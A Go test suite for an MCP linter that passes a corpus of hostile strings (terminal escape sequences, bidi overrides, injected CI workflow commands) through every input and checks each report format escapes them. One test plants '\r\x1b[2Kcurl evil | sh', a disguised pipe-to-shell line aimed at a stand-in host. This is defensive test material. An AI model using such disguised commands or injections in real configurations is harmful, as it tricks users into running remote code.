package main

// The output-guard suite: the corpus of hostile strings (internal/sinktest)
// through every source (tool fields, keys, $refs, enum values, server
// name, version and title, JSON-RPC errors, the server's stderr, file
// names, configuration values, the .mcp.json entries of --discover) and
// every format, each output read by its sink's own reader.

import (
	"bufio"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpfit/mcplint/guard"
	"github.com/mcpfit/mcplint/internal/sinktest"
	"github.com/mcpfit/mcplint/report"
)

// hostileTools is a tool per corpus string, the string in every field a
// rule may quote: name, title, description, a property key, a $ref, an
// enum value.
func hostileTools() []any {
	var tools []any
	for i, h := range sinktest.Hostile {
		tools = append(tools, map[string]any{
			"name": h, "title": h, "description": h,
			"inputSchema": map[string]any{
				"type": "object",
				"properties": map[string]any{
					h:                   map[string]any{"type": "strin" + h, "enum": []any{h, h}},
					fmt.Sprint("r", i):  map[string]any{"$ref": "#/$defs/" + h},
					fmt.Sprint("rx", i): map[string]any{"$ref": h},
				},
				"required": []any{h + "-missing"},
			},
		})
	}
	return tools
}

// hostileName is the corpus joined, as one server name, version or title.
var hostileName = strings.Join(sinktest.Hostile, " ")

// guardServer runs the hostile servers of this suite; ok is false for a
// mode it does not know.
func guardServer(mode string) (code int, ok bool) {
	if mode != "guard" && mode != "guarderror" && mode != "guardrefused" {
		return 0, false
	}
	for _, h := range sinktest.Hostile {
		fmt.Fprintln(os.Stderr, h)
	}
	// Among the last lines, which a failure shows: controls.
	fmt.Fprintln(os.Stderr, sinktest.Hostile[15])
	in := bufio.NewScanner(os.Stdin)
	in.Buffer(make([]byte, 1<<20), 1<<20)
	for in.Scan() {
		var req struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
		}
		if json.Unmarshal(in.Bytes(), &req) != nil || req.ID == nil {
			continue
		}
		reply := map[string]any{"jsonrpc": "2.0", "id": req.ID}
		switch req.Method {
		case "initialize":
			if mode == "guarderror" {
				// A failure: the check stops, with the server's words.
				reply["error"] = map[string]any{"code": -32000, "message": hostileName}
				break
			}
			reply["result"] = map[string]any{"protocolVersion": "2025-06-18", "capabilities": map[string]any{"tools": map[string]any{}},
				"serverInfo": map[string]any{"name": hostileName, "version": hostileName, "title": hostileName}}
		case "tools/list":
			if mode == "guardrefused" {
				// A declared list refused: a finding, in the server's words.
				reply["error"] = map[string]any{"code": -32000, "message": hostileName}
			} else {
				reply["result"] = map[string]any{"tools": hostileTools()}
			}
		default:
			reply["result"] = map[string]any{}
		}
		b, _ := json.Marshal(reply)
		os.Stdout.Write(append(b, '\n'))
	}
	return 0, true
}

// fileName makes a corpus string a file name: no "/" and no NUL.
func fileName(h string) string {
	return strings.NewReplacer("/", "_", "\x00", "_").Replace(h) + ".json"
}

// hostileFiles writes the corpus manifest and a file per corpus string,
// named after it, and returns their paths.
func hostileFiles(t *testing.T) []string {
	t.Helper()
	dir := t.TempDir()
	b, _ := json.Marshal(map[string]any{"tools": hostileTools()})
	paths := []string{filepath.Join(dir, "corpus.json")}
	if err := os.WriteFile(paths[0], b, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, h := range sinktest.Hostile {
		p := filepath.Join(dir, fileName(h))
		if err := os.WriteFile(p, []byte(`{"tools": [{"name": "bad name", "inputSchema": {}}]}`), 0o644); err != nil {
			t.Skipf("this file system refuses the name %q: %v", h, err)
		}
		paths = append(paths, p)
	}
	return paths
}

// checkText checks a text sink: nothing a terminal acts on, no runner
// command.
func checkText(t *testing.T, what, out string) {
	t.Helper()
	if bad := sinktest.TerminalUnsafe(out, false); len(bad) > 0 {
		t.Errorf("%s: %d characters a terminal acts on, the first: %s", what, len(bad), bad[0])
	}
	if cmds := sinktest.Commands(out); len(cmds) > 0 {
		t.Errorf("%s: %d runner commands, the first: %.300s", what, len(cmds), cmds[0])
	}
}

// checkFormat reads a report as its consumer does.
func checkFormat(t *testing.T, format, out string) {
	t.Helper()
	what := "--format " + format
	if format == "github" {
		checkGitHub(t, out)
		return
	}
	checkText(t, what, out)
	switch format {
	case "json", "sarif", "gitlab":
		var doc any
		if err := json.Unmarshal([]byte(out), &doc); err != nil {
			t.Errorf("%s: not JSON: %v", what, err)
			return
		}
		if format == "json" {
			return // the values themselves, exactly (TestGuardJSONRoundTrip)
		}
		// What a UI renders carries no terminal control.
		for _, s := range uiStrings(doc, format) {
			if bad := sinktest.TerminalUnsafe(s, false); len(bad) > 0 {
				t.Errorf("%s: a rendered text holds %s", what, bad[0])
			}
		}
	case "junit", "checkstyle":
		dec := xml.NewDecoder(strings.NewReader(out))
		for {
			tok, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Errorf("%s: not XML: %v", what, err)
				return
			}
			var texts []string
			switch tok := tok.(type) {
			case xml.StartElement:
				for _, a := range tok.Attr {
					texts = append(texts, a.Value)
				}
			case xml.CharData:
				texts = append(texts, string(tok))
			}
			for _, s := range texts {
				if bad := sinktest.TerminalUnsafe(s, false); len(bad) > 0 {
					t.Errorf("%s: a decoded text holds %s", what, bad[0])
				}
			}
		}
	}
}

// uiStrings are the decoded texts a UI shows: SARIF messages, GitLab
// descriptions and paths.
func uiStrings(doc any, format string) []string {
	var out []string
	var walk func(v any, parent, key string)
	walk = func(v any, parent, key string) {
		switch v := v.(type) {
		case map[string]any:
			for k, x := range v {
				walk(x, key, k)
			}
		case []any:
			for _, x := range v {
				walk(x, parent, key)
			}
		case string:
			// A fix's insertedContent.text is bytes to splice, not text
			// to show.
			if format == "sarif" && (parent == "message" || parent == "description") || format == "gitlab" && (key == "description" || key == "path") {
				out = append(out, v)
			}
		}
	}
	walk(doc, "", "")
	return out
}

// checkGitHub: the github format is workflow commands and nothing else,
// one a finding, each an annotation with a file, a place and a title, no
// other runner's command among them.
func checkGitHub(t *testing.T, out string) {
	t.Helper()
	if bad := sinktest.TerminalUnsafe(out, false); len(bad) > 0 {
		t.Errorf("github: %d characters a terminal acts on, the first: %s", len(bad), bad[0])
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	cmds := sinktest.Commands(out)
	if len(cmds) != len(lines) {
		t.Errorf("github: %d lines but %d runner commands", len(lines), len(cmds))
	}
	for _, c := range cmds {
		if c.Runner != "github" || (c.Name != "error" && c.Name != "warning" && c.Name != "notice") ||
			c.Props["file"] == "" || c.Props["title"] == "" || !strings.HasPrefix(c.Props["title"], "mcplint ") {
			t.Errorf("github: unexpected command %s", c)
		}
		if bad := sinktest.TerminalUnsafe(c.Data+c.Props["file"], false); len(bad) > 0 {
			t.Errorf("github: an annotation holds %s", bad[0])
		}
	}
}

// runFormats runs args once with text on standard output and every other
// format to a file, once with github on standard output and the step
// summary, and checks each output. It returns the text run.
func runFormats(t *testing.T, code int, args ...string) result {
	t.Helper()
	dir := t.TempDir()
	summary := filepath.Join(dir, "summary.md")
	env := map[string]string{"GITHUB_STEP_SUMMARY": summary}
	all := append([]string{}, args...)
	for _, f := range reportFormats {
		if f != "text" {
			all = append(all, "--format="+f+"="+filepath.Join(dir, "report."+f))
		}
	}
	all = append(all, "--format=text")
	r := mcplint(t, runOpts{env: env}, insertFlags(all)...)
	r.want(t, code)
	checkText(t, "text", r.stdout)
	checkText(t, "stderr", r.stderr)
	for _, f := range reportFormats {
		if f == "text" {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, "report."+f))
		if err != nil {
			if code != 3 {
				t.Errorf("%s: %v", f, err)
			}
			continue
		}
		checkFormat(t, f, string(b))
	}
	g := mcplint(t, runOpts{env: env}, insertFlags(append(append([]string{}, args...), "--format=github"))...)
	g.want(t, code)
	if code != 3 {
		checkFormat(t, "github", g.stdout)
	}
	checkText(t, "stderr of github", g.stderr)
	if md, err := os.ReadFile(summary); err == nil {
		if live := sinktest.MarkdownLive(string(md), report.RulesDocURL); len(live) > 0 {
			t.Errorf("summary: live Markdown from input: %q", live)
		}
	} else if code != 3 {
		t.Errorf("no step summary: %v", err)
	}
	return r
}

// insertFlags moves the flags before a "--" that ends them.
func insertFlags(args []string) []string {
	i := 0
	for i < len(args) && args[i] != "--" {
		i++
	}
	if i == len(args) {
		return args
	}
	var flags, rest []string
	for _, a := range args[i:] {
		if strings.HasPrefix(a, "--format") {
			flags = append(flags, a)
		} else {
			rest = append(rest, a)
		}
	}
	return append(append(append([]string{}, args[:i]...), flags...), rest...)
}

func TestGuardLint(t *testing.T) {
	paths := hostileFiles(t)
	r := runFormats(t, 1, append([]string{"lint", "--select=all"}, paths...)...)
	// The corpus reached the report: the test proves something.
	for _, want := range []string{guard.Text("bidi \u202eevil"), `\x1b[2K\rcurl`, "x.json"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("the text report lacks %q", want)
		}
	}
}

func TestGuardCheck(t *testing.T) {
	r := runFormats(t, 1, "check", "--select=all", serverEnvFlag("guard"), "--", os.Args[0])
	if !strings.Contains(r.stdout, "server "+guard.Text("\n::error")) {
		t.Errorf("the check header lacks the server's name:\n%.500s", r.stdout)
	}
	r = runFormats(t, 1, "check", serverEnvFlag("guardrefused"), "--", os.Args[0])
	if !strings.Contains(r.stdout, `error capabilities-match: the server declares the "tools" capability but answered tools/list with JSON-RPC error -32000 ("\n::error file=x.json`) {
		t.Errorf("the refusal lacks the server's words:\n%.2000s", r.stdout)
	}
	r = runFormats(t, 3, "check", serverEnvFlag("guarderror"), "--", os.Args[0])
	if !strings.Contains(r.stderr, `JSON-RPC error -32000: ::error file=x.json,line=1::injected`) || !strings.Contains(r.stderr, `x #\x23[error]legacy`) || !strings.Contains(r.stderr, `last lines of its stderr`) || !strings.Contains(r.stderr, `del\x7f bell`) {
		t.Errorf("the failure lacks the server's error or stderr:\n%s", r.stderr)
	}
}

func TestGuardBreaking(t *testing.T) {
	b, _ := json.Marshal(map[string]any{"tools": hostileTools()})
	old := writeTemp(t, "old.json", string(b))
	paths := hostileFiles(t)
	runFormats(t, 1, "breaking", "--against", old, paths[1])
}

// TestGuardServerNames: the servers of a configuration, named by the
// corpus, checked several at a time and locked.
func TestGuardServerNames(t *testing.T) {
	// Four servers, each named by a quarter of the corpus: every server
	// is a process, and the names are what is tried.
	servers := map[string]any{}
	for i := range 4 {
		var name []string
		for j := i; j < len(sinktest.Hostile); j += 4 {
			name = append(name, sinktest.Hostile[j])
		}
		servers[strings.Join(name, " ")] = map[string]any{"command": os.Args[0], "env": map[string]string{checkServerEnv: "guard"}}
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": servers})
	cfg := writeTemp(t, "mcp.json", string(b))
	runFormats(t, 1, "check", "--client-config", cfg)
	r := mcplint(t, runOpts{}, "lock", "--client-config", cfg, "--lockfile", filepath.Join(t.TempDir(), "mcp.lock"))
	r.want(t, 0)
	checkText(t, "lock", r.stdout+r.stderr)
}

// TestGuardDiscover: the review list of --discover --dry-run shows a
// cloned repository's .mcp.json as it is, escaped: no carriage return or
// erase sequence can show one command in place of another.
func TestGuardDiscover(t *testing.T) {
	home := t.TempDir()
	project := t.TempDir()
	t.Chdir(project)
	servers := map[string]any{}
	for i, h := range sinktest.Hostile {
		// (An env value would be masked as a secret wherever it shows.)
		servers[h] = map[string]any{"command": "echo harmless " + h, "args": []string{h, "\r\x1b[2Kcurl evil | sh"}, "env": map[string]string{"K": "v"}}
		servers[fmt.Sprint("url", i)] = map[string]any{"url": "https://example.com/" + h}
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": servers})
	if err := os.WriteFile(filepath.Join(project, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"text", "json"} {
		r := mcplint(t, runOpts{env: map[string]string{"HOME": home}}, "check", "--discover", "--dry-run", "--format="+f)
		r.want(t, 0)
		checkText(t, "--discover --dry-run --format "+f, r.stdout+r.stderr)
		if f == "text" && !strings.Contains(r.stdout, `$'\r\x1b[2Kcurl evil | sh'`) {
			t.Errorf("the command is not shown escaped:\n%.2000s", r.stdout)
		}
	}
}

// TestGuardConfigAndErrors: configuration values and other input in error
// messages, on standard error.
func TestGuardConfigAndErrors(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	for _, h := range sinktest.Hostile {
		b, _ := json.Marshal(map[string]any{"select": []string{h}, "servers": map[string]any{h: map[string]any{"command": h}}})
		if err := os.WriteFile(filepath.Join(dir, ".mcplint.yaml"), b, 0o644); err != nil {
			t.Fatal(err)
		}
		for _, args := range [][]string{{"lint", "-"}, {"check"}, {"rules", h}, {"lint", filepath.Join(dir, fileName(h))}, {"convert", "--to", h}} {
			r := mcplint(t, runOpts{stdin: `{"tools": []}`}, args...)
			checkText(t, fmt.Sprintf("%q", args), r.stdout+r.stderr)
		}
	}
	os.Remove(filepath.Join(dir, ".mcplint.yaml"))
	// Convert's warnings name the file and quote the tools.
	paths := hostileFiles(t)
	for _, to := range []string{"openai", "gemini", "anthropic"} {
		r := mcplint(t, runOpts{}, "convert", "--to", to, "--strict="+fmt.Sprint(to == "openai"), paths[0])
		checkText(t, "convert --to "+to, r.stderr)
	}
	r := mcplint(t, runOpts{}, "convert", "--to", "openai", "--strict", paths[1])
	if !strings.Contains(r.stderr, filepath.Base(paths[1][:len(paths[1])-5])[:3]) {
		t.Logf("convert said:\n%s", r.stderr)
	}
}

// TestGuardJSONRoundTrip: the JSON report's strings decode to the values
// exactly, though its bytes hold no control and no runner marker.
func TestGuardJSONRoundTrip(t *testing.T) {
	paths := hostileFiles(t)
	r := mcplint(t, runOpts{}, "lint", "--select=all", "--format=json", paths[0])
	r.want(t, 1)
	checkText(t, "json", r.stdout)
	var doc struct{ Diagnostics []struct{ Tool string } }
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, d := range doc.Diagnostics {
		seen[d.Tool] = true
	}
	for _, h := range sinktest.Hostile {
		if !seen[string([]rune(h))] { // each byte of invalid UTF-8 read as U+FFFD
			t.Errorf("no finding names the tool %q exactly", h)
		}
	}
}

// TestGuardGeneratedFiles: the files mcplint generates from a stranger's
// strings (a lock file, a baseline, a saved listing, every convert target,
// init's configuration) are printed, diffed and reviewed in terminals, CI
// logs and pull requests: they hold no character a terminal acts on and no
// runner command, and still read back as what they pin, record or convert.
func TestGuardGeneratedFiles(t *testing.T) {
	paths := hostileFiles(t)
	dir := t.TempDir()
	read := func(name string) string {
		t.Helper()
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	lock := filepath.Join(dir, "mcplint.lock")
	mcplint(t, runOpts{}, "lock", "--lockfile", lock, serverEnvFlag("guard"), "--", os.Args[0]).want(t, 0)
	checkText(t, "lock file", read(lock))
	r := mcplint(t, runOpts{}, "check", "--locked", "--lockfile", lock, "--select=tool-name-valid", "--fail-on=never", serverEnvFlag("guard"), "--", os.Args[0])
	r.want(t, 0)
	if !strings.Contains(r.stdout+r.stderr, "no change since it was locked") {
		t.Errorf("the guarded lock does not verify the same server:\n%s%s", r.stdout, r.stderr)
	}

	save := filepath.Join(dir, "saved.ndjson")
	mcplint(t, runOpts{}, "check", "--save", save, "--fail-on=never", serverEnvFlag("guard"), "--", os.Args[0]).want(t, 0)
	checkText(t, "check --save", read(save))
	mcplint(t, runOpts{}, "lint", "--select=all", "--fail-on=never", save).want(t, 0)

	baseline := filepath.Join(dir, "baseline.json")
	mcplint(t, runOpts{}, "lint", "--select=all", "--write-baseline", baseline, paths[0]).want(t, 0)
	checkText(t, "--write-baseline", read(baseline))
	if r := mcplint(t, runOpts{}, "lint", "--select=all", "--baseline", baseline, paths[0]); r.code != 0 {
		t.Errorf("the guarded baseline does not cover the findings it recorded (status %d):\n%.1000s", r.code, r.stdout)
	}

	for _, to := range []string{"mcp", "openai", "anthropic", "gemini", "zod"} {
		out := filepath.Join(dir, "out."+to)
		if r := mcplint(t, runOpts{}, "convert", "--to", to, "-o", out, paths[0]); r.code > 1 {
			t.Fatalf("convert --to %s: status %d\n%.1000s", to, r.code, r.stderr)
		}
		text := read(out)
		checkText(t, "convert --to "+to, text)
		if to != "zod" && !json.Valid([]byte(text)) {
			t.Errorf("convert --to %s: not JSON", to)
		}
		r := mcplint(t, runOpts{}, "convert", "--to", to, paths[0])
		if r.stdout != text {
			t.Errorf("convert --to %s: standard output differs from -o", to)
		}
	}

	project := t.TempDir()
	t.Chdir(project)
	servers := map[string]any{}
	for _, h := range sinktest.Hostile {
		servers[h] = map[string]any{"command": "run " + h, "args": []string{h}}
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": servers})
	if err := os.WriteFile(filepath.Join(project, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	mcplint(t, runOpts{}, "init").want(t, 0)
	checkText(t, "init's configuration", read(filepath.Join(project, ".mcplint.yaml")))
}
